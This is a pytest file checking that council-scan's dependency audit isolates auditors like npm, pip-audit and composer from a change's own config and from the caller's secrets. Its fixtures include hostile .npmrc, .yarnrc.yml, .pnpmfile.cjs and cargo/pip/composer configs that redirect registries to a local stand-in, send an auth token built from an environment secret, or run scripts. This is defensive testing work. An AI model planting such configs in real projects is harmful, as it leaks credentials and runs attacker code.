"""council-scan's dependency audit runs nothing of the change and sends nothing of the caller:
off unless --audit; with it, every auditor runs on a scratch copy of the manifest and lockfile
(no project package-manager config of any shape, JSON manifests reduced to their dependency
fields), with a minimal environment (no credential, a scratch HOME) and the public registry."""

from __future__ import annotations

import http.server
import json
import os
import shutil
import stat
import threading
from pathlib import Path
from typing import Any

import pytest

from council_filters.scan import audit

from conftest import make_repo, run_filter

SECRET = "s3cr3t-" + "Qv7" * 8  # what the caller's environment holds
TOOLS = ("npm", "pnpm", "yarn", "pip-audit", "cargo-audit", "bundle-audit", "composer",
         "govulncheck")

# Every shape of package-manager config a change can carry, each naming the hostile side.
HOSTILE_CONFIG = {
    ".npmrc": "registry=http://127.0.0.1:9/\n//127.0.0.1:9/:_authToken=${COUNCIL_T_SECRET}\n",
    ".yarnrc": 'yarn-path "./evil.js"\nregistry "http://127.0.0.1:9/"\n',
    ".yarnrc.yml": "yarnPath: ./evil.cjs\nnpmAuthToken: ${COUNCIL_T_SECRET}\n",
    ".pnpmfile.cjs": "require('child_process').execSync('touch PWNED')\n",
    "pnpm-workspace.yaml": "packages: ['../../**']\n",
    "pip.conf": "[global]\nindex-url = http://127.0.0.1:9/simple\n",
    ".pip/pip.conf": "[global]\nindex-url = http://127.0.0.1:9/simple\n",
    ".cargo/config.toml": '[registries.evil]\nindex = "sparse+http://127.0.0.1:9/"\n'
                          'credential-provider = ["./evil.sh"]\n',
    ".cargo/config": '[source.crates-io]\nreplace-with = "evil"\n',
    ".bundle/config": 'BUNDLE_MIRROR__ALL: "http://127.0.0.1:9/"\n',
    "auth.json": '{"http-basic": {"127.0.0.1": {"username": "u", "password": "p"}}}\n',
    "evil.js": "require('fs').writeFileSync('PWNED', '')\n",
}
MANIFESTS = {
    "package.json": json.dumps({"name": "p", "dependencies": {"left-pad": "1.3.0"},
                                "scripts": {"preaudit": "touch PWNED"},
                                "packageManager": "yarn@4.0.0+sha256.0"}),
    "package-lock.json": '{"lockfileVersion": 3, "packages": {}}\n',
    "requirements.txt": "--index-url http://127.0.0.1:9/simple\n-e .\nflask==0.12\n",
    "Cargo.toml": '[package]\nname = "p"\nversion = "0.1.0"\n',
    "Cargo.lock": "version = 3\n",
    "Gemfile": "source 'http://127.0.0.1:9/'\ngem 'rack'\n",
    "Gemfile.lock": "GEM\n  specs:\n    rack (2.0.0)\n",
    "composer.json": json.dumps({"require": {"a/b": "1"}, "config": {"allow-plugins": True},
                                 "repositories": [{"type": "composer",
                                                   "url": "http://127.0.0.1:9/"}]}),
    "composer.lock": '{"packages": []}\n',
}


def _spy_bin(tmp: Path) -> Path:
    """Fake auditors that record where they ran, what they saw there and their environment."""
    directory = tmp / "spybin"
    directory.mkdir()
    log = tmp / "spy"
    log.mkdir()
    for tool in TOOLS:
        exe = directory / tool
        exe.write_text(
            "#!/bin/sh\n"
            f"d={log}/{tool}; mkdir -p \"$d\"\n"
            "pwd > \"$d/cwd\"; env > \"$d/env\"; printf '%s\\n' \"$@\" > \"$d/argv\"\n"
            "find . -mindepth 1 > \"$d/files\" 2>/dev/null\n"
            "[ -f package.json ] && cat package.json > \"$d/package.json\"\n"
            "[ -f composer.json ] && cat composer.json > \"$d/composer.json\"\n"
            "[ -f requirements.txt ] && cat requirements.txt > \"$d/requirements.txt\"\n"
            "echo '{}'\n")
        exe.chmod(exe.stat().st_mode | stat.S_IEXEC)
    return directory


def _hostile_repo(tmp: Path, manager_file: str = "package-lock.json") -> Path:
    base = {"README": "x\n", "go.mod": "module m\n\ngo 1.21\n", "main.go": "package main\n"}
    change: dict[str, str | bytes | None] = {**MANIFESTS, **HOSTILE_CONFIG,
                                             "go.mod": "module m\n\ngo 1.21\ntoolchain go1.99\n",
                                             "go.work": "go 1.21\nuse ../../\n"}
    if manager_file != "package-lock.json":
        change.pop("package-lock.json")
        change[manager_file] = "lock\n"
    return make_repo(tmp / "repo", base, change)


def _scan(repo: Path, *extra: str, path: str) -> dict[str, Any]:
    env = {"PATH": path, "COUNCIL_T_SECRET": SECRET, "NPM_TOKEN": SECRET,
           "AWS_SECRET_ACCESS_KEY": SECRET, "GITHUB_TOKEN": SECRET, "COMPOSER_AUTH": SECRET}
    res = run_filter("scan", ["--repo", str(repo), "--base", "main", *extra], env=env)
    assert res.code == 0, res.err
    assert SECRET not in res.err and SECRET.encode() not in res.out
    return res.records()[-1]


def test_the_audit_is_off_unless_asked(tmp_path):
    spy = _spy_bin(tmp_path)
    repo = _hostile_repo(tmp_path)
    summary = _scan(repo, path=f"{spy}{os.pathsep}{os.environ['PATH']}")
    assert not any((tmp_path / "spy").iterdir())  # no auditor started
    assert summary["audited"] == []
    assert [s["reason"] for s in summary["skipped_layers"]] == [
        "not asked: the audit runs only with --audit"]


@pytest.mark.parametrize("lock", ["package-lock.json", "pnpm-lock.yaml", "yarn.lock"])
def test_auditors_never_see_the_projects_config_or_the_callers_secrets(tmp_path, lock):
    spy = _spy_bin(tmp_path)
    repo = _hostile_repo(tmp_path, lock)
    summary = _scan(repo, "--audit", path=f"{spy}{os.pathsep}{os.environ['PATH']}")
    ran = sorted(p.name for p in (tmp_path / "spy").iterdir())
    (node,) = {"npm", "pnpm", "yarn"} & set(ran)  # the config files may pick the manager
    assert ran == sorted([node, "pip-audit", "cargo-audit", "bundle-audit", "composer",
                          "govulncheck"]), summary
    for tool in ran:
        d = tmp_path / "spy" / tool
        env = dict(line.split("=", 1) for line in (d / "env").read_text().splitlines()
                   if "=" in line)
        assert SECRET not in (d / "env").read_text(), tool
        assert "COUNCIL_T_SECRET" not in env and "GITHUB_TOKEN" not in env
        assert not env["HOME"].startswith(os.path.expanduser("~") + os.sep)
        assert env["npm_config_registry"] == audit.NPM_REGISTRY
        assert env["PIP_CONFIG_FILE"] == os.devnull and env["GOTOOLCHAIN"] == "local"
        files = (d / "files").read_text().split()
        cwd = (d / "cwd").read_text().strip()
        if tool == "govulncheck":  # reads the Go source in place, its config switched off
            assert Path(cwd) == repo
            assert env["GOWORK"] == "off" and env["GOENV"] == "off"
            assert env["CGO_ENABLED"] == "0" and env["GOPROXY"] == audit.GO_PROXY
            continue
        assert not Path(cwd).is_relative_to(repo)
        for name in HOSTILE_CONFIG:
            assert f"./{name}" not in files and f"./{name.split('/')[0]}" not in files, (tool,
                                                                                        name)
        assert not (Path(cwd) / "PWNED").exists()
    npm = tmp_path / "spy" / node
    copied = json.loads((npm / "package.json").read_text())
    assert copied == {"name": "p", "dependencies": {"left-pad": "1.3.0"}}  # no scripts,
    assert f"./{lock}" in (npm / "files").read_text().split() or node != {  # no packageManager
        "package-lock.json": "npm", "pnpm-lock.yaml": "pnpm", "yarn.lock": "yarn"}[lock]
    composer = json.loads((tmp_path / "spy" / "composer" / "composer.json").read_text())
    assert composer == {"require": {"a/b": "1"}}
    assert (tmp_path / "spy" / "pip-audit" / "requirements.txt").read_text() == "flask==0.12\n"
    if node in ("npm", "pnpm"):
        assert f"--registry={audit.NPM_REGISTRY}" in (npm / "argv").read_text().split()
    assert "--no-plugins" in (tmp_path / "spy" / "composer" / "argv").read_text().split()
    assert not (repo / "PWNED").exists()


def test_a_relative_path_entry_never_finds_an_auditor_in_the_repository(tmp_path):
    repo = _hostile_repo(tmp_path)
    marker = tmp_path / "RAN"
    fake = repo / "npm"
    fake.write_text(f"#!/bin/sh\ntouch {marker}\n")
    fake.chmod(0o755)
    res = run_filter("scan", ["--repo", str(repo), "--base", "main", "--audit"],
                     env={"PATH": f".{os.pathsep}{os.pathsep}/usr/bin{os.pathsep}/bin"},
                     cwd=repo)
    assert res.code == 0, res.err
    assert not marker.exists()


class _Spy(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def _any(self) -> None:
        _Spy.seen.append(f"{self.command} {self.path} {self.headers.get('Authorization')}")
        self.send_response(500)
        self.end_headers()

    do_GET = do_POST = do_PUT = _any

    def log_message(self, *args: Any) -> None:
        pass


@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
def test_real_npm_audit_sends_nothing_to_the_registry_the_change_names(tmp_path):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Spy)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    try:
        npmrc = (f"registry=http://127.0.0.1:{port}/\n"
                 f"//127.0.0.1:{port}/:_authToken=${{COUNCIL_T_SECRET}}\n")
        lock = {"name": "p", "lockfileVersion": 3, "requires": True, "packages": {
            "": {"name": "p", "dependencies": {"left-pad": "1.3.0"}},
            "node_modules/left-pad": {"version": "1.3.0", "resolved":
                                      f"http://127.0.0.1:{port}/left-pad/-/left-pad-1.3.0.tgz"}}}
        repo = make_repo(tmp_path / "repo", {"README": "x\n"}, {
            ".npmrc": npmrc, "package.json": json.dumps({"name": "p", "dependencies":
                                                         {"left-pad": "1.3.0"}}),
            "package-lock.json": json.dumps(lock)})
        env = {"COUNCIL_T_SECRET": SECRET, "HTTPS_PROXY": None, "https_proxy": None,
               "HTTP_PROXY": None, "http_proxy": None}
        # the control: npm itself, in the repository, goes where the change says
        control = dict(os.environ, COUNCIL_T_SECRET=SECRET, npm_config_audit="true")
        import subprocess

        subprocess.run(["npm", "audit", "--json", "--package-lock-only"], cwd=repo, env=control,
                       capture_output=True, timeout=120, check=False)
        assert any(SECRET in s for s in _Spy.seen), _Spy.seen
        _Spy.seen.clear()
        res = run_filter("scan", ["--repo", str(repo), "--base", "main", "--audit",
                                  "--audit-timeout", "60"], env=env)
        assert res.code == 0, res.err
        assert _Spy.seen == []
    finally:
        server.shutdown()
